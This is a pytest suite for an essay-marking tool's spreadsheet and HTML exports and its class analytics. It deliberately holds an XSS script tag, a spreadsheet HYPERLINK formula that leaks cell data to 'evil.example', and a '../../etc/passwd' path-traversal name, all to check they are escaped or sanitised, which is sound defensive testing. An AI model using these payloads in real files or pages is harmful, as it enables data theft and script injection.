"""Exports (CSV, XLSX, printable pages, zip) and class analytics over result records."""

from __future__ import annotations

import csv
import math
import re
import zipfile

import openpyxl
import pytest

from marker.analytics import (
    class_summary,
    common_slips,
    coverage_matrix,
    mark_distribution,
    most_missed,
    student_labels,
    summary_report_html,
)
from marker.export import (
    ResultRecord,
    feedback_page,
    feedback_zip,
    page_names,
    results_table,
    safe_cell,
    write_csv,
    write_xlsx,
)

XSS = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for marks")'
POINTS = [
    ("claims", "Both renounced claims against each other"),
    ("relations", "Diplomatic relations were restored"),
    ("military", "Secret military cooperation"),
]


def _feedback(
    statuses: str, mark: int, *, max_mark: int = 3, level: int | None = None, facts=(), advisories=()
):
    """A dict shaped like ``Feedback.to_dict()`` for the three POINTS; ``statuses`` has one
    letter per point: c credited, p partial, m missing."""
    names = {"c": "credited", "p": "partial", "m": "missing"}
    answer = "The two sides renounced claims against each other."
    return {
        "question_id": "mini-points",
        "question": "Outline two terms of the Treaty of Rapallo.",
        "marking_kind": "points",
        "rubric_version": "68e60814b9c2",
        "mark": mark,
        "max_mark": max_mark,
        "level": level,
        "band": None,
        "summary": f"{mark} points credited: {mark}/{max_mark}.",
        "points": [
            {
                "id": pid,
                "label": label,
                "theme": "context",
                "weight": 1.0,
                "status": names[s],
                "strength": {"c": 0.85, "p": 0.5, "m": 0.0}[s],
                "evidence": [] if s == "m" else [{"start": 0, "end": len(answer), "text": answer}],
                "cues": [],
            }
            for (pid, label), s in zip(POINTS, statuses, strict=True)
        ],
        "fact_issues": list(facts),
        "advisories": list(advisories),
        "next_steps": ["Add: Secret military cooperation."],
        "ladder": [],
        "features": None,
        "sentences": [],
        "structure": None,
        "calibrated": False,
        "engine_version": "0.1.0",
    }


def _wrong_date(text: str, concept: str = "Treaty of Rapallo") -> dict:
    return {
        "kind": "wrong-date",
        "severity": "error",
        "start": 0,
        "end": len(text),
        "text": text,
        "sentence": f"Rapallo was signed in {text}.",
        "concept": concept,
        "message": f"'{text}' does not fit {concept}: Germany and Soviet Russia signed it (16 April 1922).",
        "correct": "Germany and Soviet Russia signed it (16 April 1922)",
    }


def _outside(text: str) -> dict:
    return {
        "kind": "outside-period",
        "severity": "note",
        "start": 0,
        "end": len(text),
        "text": text,
        "sentence": f"It happened in {text}.",
        "concept": "",
        "message": f"{text} is outside the question's period (1922-1922): make sure the point answers the question.",
        "correct": "",
    }


@pytest.fixture()
def records() -> list[ResultRecord]:
    return [
        ResultRecord("s1", "Ann", "class.xlsx row 2", _feedback("ccm", 2, facts=[_wrong_date("1925")])),
        ResultRecord(
            "s2",
            "Ben",
            "class.xlsx row 3",
            _feedback("cpm", 1, facts=[_wrong_date("1923"), _outside("1930")]),
        ),
        ResultRecord("s3", "Ann", "class.xlsx row 4", _feedback("mmm", 0)),
        ResultRecord(
            "s4", "Cat", "cat.docx", None, error="The Word file is corrupt: re-save it and upload it again."
        ),
    ]


# --- spreadsheets -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1+1", "'  =1+1"),
        ("Ann", "Ann"),
        ("a=b", "a=b"),
        (-2, -2),
        (3.5, 3.5),
        (None, None),
        (True, True),
    ],
)
def test_export_safe_cell_neutralises_formulas_only(value, expected):
    assert safe_cell(value) == expected


def test_export_results_table_columns_and_failed_row(records):
    rows = results_table(records)
    assert list(rows[0]) == [
        "script_id",
        "student",
        "source",
        "question_id",
        "mark",
        "max_mark",
        "percent",
        "level",
        "status",
        "error",
        *(f"point: {label}" for _, label in POINTS),
        "fact_issues",
        "advisories",
        "calibrated",
        "ocr_confidence",
    ]
    assert [r["status"] for r in rows] == ["marked", "marked", "marked", "failed"]
    assert rows[0]["percent"] == pytest.approx(66.7)
    assert rows[1]["point: Diplomatic relations were restored"] == "partial"
    assert rows[1]["fact_issues"].count("; ") == 1
    failed = rows[3]
    assert failed["error"].startswith("The Word file is corrupt")
    assert failed["mark"] is None and failed["point: Secret military cooperation"] is None


def test_export_results_table_points_union_keeps_question_order():
    first = _feedback("cmm", 1)
    later = _feedback("ccc", 3)
    later["points"].append({**later["points"][0], "id": "extra", "label": "An extra point"})
    rows = results_table(
        [
            ResultRecord("a", "A", "", None, "bad"),
            ResultRecord("b", "B", "", first),
            ResultRecord("c", "C", "", later),
        ]
    )
    points = [c for c in rows[0] if c.startswith("point: ")]
    assert points == [f"point: {label}" for _, label in POINTS] + ["point: An extra point"]
    assert rows[1]["point: An extra point"] is None and rows[2]["point: An extra point"] == "credited"


def test_export_csv_has_bom_and_neutralised_formulas(tmp_path, records):
    records = [*records, ResultRecord("s5", FORMULA, "-2+3", _feedback("ccc", 3))]
    path = write_csv(records, tmp_path / "marks.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert rows[4]["student"] == "'" + FORMULA and rows[4]["student"].startswith("'=")
    assert rows[4]["source"] == "'-2+3"
    assert rows[3]["status"] == "failed" and rows[3]["mark"] == ""
    assert rows[0]["mark"] == "2"  # plain numbers are not touched
    for row in rows:
        for value in row.values():
            assert not value.lstrip(" ").startswith(("=", "+", "@")), value


def test_export_xlsx_strings_never_formulas_numbers_stay_numbers(tmp_path, records):
    records = [*records, ResultRecord("s5", FORMULA, "@cmd", _feedback("ccc", 3))]
    path = write_xlsx(records, tmp_path / "marks.xlsx")
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Results", "Points", "Summary"]
    ws = wb["Results"]
    header = [c.value for c in ws[1]]
    student = ws.cell(row=6, column=header.index("student") + 1)
    assert student.value == "'" + FORMULA and student.data_type == "s"
    assert ws.cell(row=6, column=header.index("source") + 1).value == "'@cmd"
    mark = ws.cell(row=2, column=header.index("mark") + 1)
    assert mark.value == 2 and mark.data_type == "n"
    assert ws.cell(row=2, column=header.index("percent") + 1).value == pytest.approx(66.7)
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref and ws["A1"].font.bold
    assert ws.column_dimensions["B"].width > 8
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


def test_export_xlsx_points_and_summary_sheets(tmp_path, records):
    wb = openpyxl.load_workbook(write_xlsx(records, tmp_path / "marks.xlsx"))
    points = [[c.value for c in row] for row in wb["Points"].iter_rows()]
    assert points[0] == ["student", *(label for _, label in POINTS)]
    assert points[1:] == [["Ann (s1)", 1, 1, 0], ["Ben", 1, 0.5, 0], ["Ann (s3)", 0, 0, 0]]
    figures = {row[0].value: row[1].value for row in wb["Summary"].iter_rows() if row[0].value}
    assert figures["Scripts"] == 4 and figures["Failed"] == 1 and figures["Mean mark"] == 1


def test_export_xlsx_and_csv_handle_no_records(tmp_path):
    wb = openpyxl.load_workbook(write_xlsx([], tmp_path / "none.xlsx"))
    assert [c.value for c in wb["Results"][1]][:3] == ["script_id", "student", "source"]
    assert (
        write_csv([], tmp_path / "none.csv").read_text(encoding="utf-8-sig").startswith("script_id,student")
    )


def test_export_record_round_trips_through_json(records):
    import json

    for r in records:
        assert ResultRecord.from_dict(json.loads(json.dumps(r.to_dict()))) == r


# --- feedback pages -----------------------------------------------------------------------


def test_export_feedback_page_escapes_everything():
    fb = _feedback("cmm", 1, facts=[{**_wrong_date("1925"), "message": XSS}])
    fb["points"][0]["evidence"] = [{"start": 0, "end": len(XSS), "text": XSS}]
    fb["next_steps"] = [XSS]
    fb["question"] = fb["summary"] = fb["points"][1]["label"] = fb["points"][2]["label"] = XSS
    fb["advisories"] = [{"code": "too-short", "message": XSS, "cap_level": None, "cap_mark": None}]
    record = ResultRecord("s1", XSS, XSS, fb, answer=XSS + " and more")
    page = feedback_page(record, title=XSS)
    assert "<script" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert page.startswith("<!DOCTYPE html>") and "</html>" in page
    assert not re.search(r"(src|href)\s*=|https?://|@import", page)
    # the answer is shown with its evidence highlighted (render.highlight_html)
    assert 'class="marker-credited"' in page


def test_export_feedback_page_shows_covered_missing_and_next_steps(records):
    record = ResultRecord(
        "s2", "Ben", "row 3", records[1].feedback, answer="The two sides renounced claims against each other."
    )
    page = feedback_page(record)
    assert "Mark: 1 / 3" in page
    covered = page.split("What you covered")[1].split("What is missing")[0]
    missing = page.split("What is missing")[1].split("Facts to check")[0]
    assert "Both renounced claims" in covered and "partly covered" in covered
    assert "\u201cThe two sides renounced claims against each other.\u201d" in covered
    assert "Secret military cooperation" in missing and "Both renounced" not in missing
    assert "&#x27;1923&#x27; does not fit Treaty of Rapallo" in page
    assert "Add: Secret military cooperation." in page


def test_export_feedback_page_ignores_highlights_that_do_not_match_the_answer(records):
    page = feedback_page(
        ResultRecord("s1", "Ann", "", records[0].feedback, answer="A different answer entirely, typed later.")
    )
    assert 'class="marker-credited"' not in page and "A different answer entirely" in page


def test_export_feedback_page_for_failed_script(records):
    page = feedback_page(records[3])
    assert "could not be marked" in page and "The Word file is corrupt" in page


def test_export_zip_names_sanitised_and_unique(tmp_path):
    fb = _feedback("ccc", 3)
    records = [
        ResultRecord("s1", "../../etc/passwd", "", fb),
        ResultRecord("s2", "Ann Lee", "", fb),
        ResultRecord("s3", "Ann Lee", "", fb),
        ResultRecord("s4", "ann/lee", "", fb),
        ResultRecord("s5", "", "", None, error="empty file"),
        ResultRecord("s6", "index", "", fb),
        ResultRecord("../s7", XSS, "", fb),
        ResultRecord("s8", "Zoë", "", fb),
    ]
    path = feedback_zip(records, tmp_path / "pages.zip")
    with zipfile.ZipFile(path) as zf:
        names = zf.namelist()
        index = zf.read("index.html").decode()
        failed = zf.read("s5.html").decode()
        xss_page = zf.read(page_names(records)[6]).decode()
    # The index comes last: it links every page, and the pages are written as they come.
    assert names[-1] == "index.html" and len(names) == len(records) + 1
    assert len({n.casefold() for n in names}) == len(names)
    assert all(re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]*\.html", n) for n in names), names
    assert not any(".." in n or "/" in n for n in names)
    assert "etc_passwd.html" in names and "Zoe.html" in names
    assert {"Ann_Lee_s2.html", "Ann_Lee_s3.html", "ann_lee_s4.html"} <= set(names)
    assert "index_s6.html" in names
    assert "empty file" in failed
    assert "<script" not in index and "<script" not in xss_page
    assert all(f'href="{n}"' in index for n in names[:-1])


# --- analytics ----------------------------------------------------------------------------


def test_analytics_coverage_matrix_values_and_shape(records):
    matrix = coverage_matrix(records)
    assert matrix.shape == (3, 3)  # the failed script has no row
    assert matrix.index.tolist() == ["Ann (s1)", "Ben", "Ann (s3)"]
    assert matrix.columns.tolist() == [label for _, label in POINTS]
    assert matrix.to_numpy().tolist() == [[1.0, 1.0, 0.0], [1.0, 0.5, 0.0], [0.0, 0.0, 0.0]]


def test_analytics_coverage_matrix_uses_script_id_for_blank_names():
    records = [
        ResultRecord("s1", "", "", _feedback("ccc", 3)),
        ResultRecord("s2", "  ", "", _feedback("mmm", 0)),
    ]
    assert coverage_matrix(records).index.tolist() == ["s1", "s2"]
    assert student_labels(records) == ["s1", "s2"]


def test_analytics_mark_distribution_includes_zero_counts(records):
    dist = mark_distribution(records)
    assert dist["mark"].tolist() == [0, 1, 2, 3]
    assert dist["count"].tolist() == [1, 1, 1, 0]


def test_analytics_class_summary_figures(records):
    s = class_summary(records)
    assert (s["n"], s["n_marked"], s["n_failed"]) == (4, 3, 1)
    assert (s["mean"], s["median"], s["min"], s["max"]) == (1, 1, 0, 2)
    assert s["mean_percent"] == pytest.approx((66.7 + 33.3 + 0) / 3, abs=0.1)
    levelled = [
        ResultRecord("a", "A", "", _feedback("ccc", 3, level=2)),
        ResultRecord("b", "B", "", _feedback("ccc", 3, level=2)),
    ]
    assert class_summary(levelled)["level_counts"] == {2: 2}


def test_analytics_most_missed_ordering(records):
    missed = most_missed(records)
    assert [m["id"] for m in missed] == ["military", "relations", "claims"]
    assert missed[0]["missed_share"] == 1.0
    # relations: missed by s3 only, partial for s2 -> sorted above claims (missed by s3, no partial)
    assert missed[1]["missed_share"] == missed[2]["missed_share"] == pytest.approx(1 / 3, abs=1e-3)
    assert missed[1]["partial_share"] > missed[2]["partial_share"]
    assert math.isclose(
        sum(missed[1][k] for k in ("missed_share", "partial_share", "credited_share")), 1, abs_tol=0.01
    )
    assert len(most_missed(records, top=1)) == 1


def test_analytics_common_slips_group_by_fact_not_message(records):
    slips = common_slips(records)
    assert slips[0]["kind"] == "wrong-date" and slips[0]["count"] == 2
    assert slips[0]["students"] == ["Ann (s1)", "Ben"]
    assert "1925" not in slips[0]["label"] and "Treaty of Rapallo" in slips[0]["label"]
    assert slips[1]["kind"] == "outside-period" and slips[1]["count"] == 1


@pytest.mark.parametrize(
    "records",
    [[], [ResultRecord("s1", "Ann", "a.docx", None, error="corrupt"), ResultRecord("s2", "", "b.pdf", None)]],
    ids=["empty", "all-failed"],
)
def test_analytics_empty_states_do_not_raise(records, tmp_path):
    s = class_summary(records)
    assert s["mean"] is None and s["n_marked"] == 0
    assert coverage_matrix(records).empty
    assert mark_distribution(records).empty
    assert most_missed(records) == [] and common_slips(records) == []
    report = summary_report_html(records, "Class 9B")
    assert "Class 9B" in report and "</html>" in report
    assert ("No scripts" in report) if not records else ("corrupt" in report and "not marked" in report)
    write_xlsx(records, tmp_path / "x.xlsx")
    feedback_zip(records, tmp_path / "x.zip")


def test_analytics_summary_report_escapes_and_is_self_contained(records):
    records = [
        *records,
        ResultRecord("s9", XSS, XSS, _feedback("cmm", 1, facts=[{**_outside("1930"), "message": XSS}])),
        ResultRecord("s10", XSS, XSS, None, error=XSS),
    ]
    odd = _feedback("mmm", 0)
    odd["question"] = odd["points"][0]["label"] = XSS  # teacher text is escaped too
    records.append(ResultRecord("s11", "Dee", "", odd))
    report = summary_report_html(records, title=XSS)
    assert "<script" not in report
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in report
    assert not re.search(r"(src|href)\s*=|https?://|@import|url\(", report)
    assert "<svg" in report and "\u2713" in report and "\u00bd" in report and "\u2717" in report
    assert "Secret military cooperation" in report.split("Most-missed points")[1]


# --- end to end with real Feedback ----------------------------------------------------------


@pytest.fixture(scope="module")
def real_records(mini_marker):
    answers = {
        "r1": (
            "Ann",
            "The two sides renounced claims against each other and diplomatic relations were restored.",
        ),
        "r2": ("Ben <b>", "Germany agreed to train troops in Russia in 1925."),
    }
    out = [
        ResultRecord(sid, name, f"{sid}.txt", mini_marker.mark("mini-points", text).to_dict(), answer=text)
        for sid, (name, text) in answers.items()
    ]
    return [*out, ResultRecord("r3", "Cat", "r3.pdf", None, error="The PDF has no text layer.")]


def test_export_real_feedback_end_to_end(real_records, tmp_path):
    rows = results_table(real_records)
    assert [r["status"] for r in rows] == ["marked", "marked", "failed"]
    assert rows[0]["mark"] == 2 and rows[0]["point: Diplomatic relations were restored"] == "credited"
    assert rows[1]["point: Secret military cooperation"] in ("credited", "partial")
    assert "1925" in rows[1]["fact_issues"]

    page = feedback_page(real_records[0])
    assert "marker-credited" in page and "Mark: 2 / 2" in page
    assert "Ben &lt;b&gt;" in feedback_page(real_records[1])

    report = summary_report_html(real_records, "Mini class")
    assert "The PDF has no text layer." in report and "Ben &lt;b&gt;" in report
    assert coverage_matrix(real_records).shape == (2, 3)
    assert write_xlsx(real_records, tmp_path / "real.xlsx").exists()
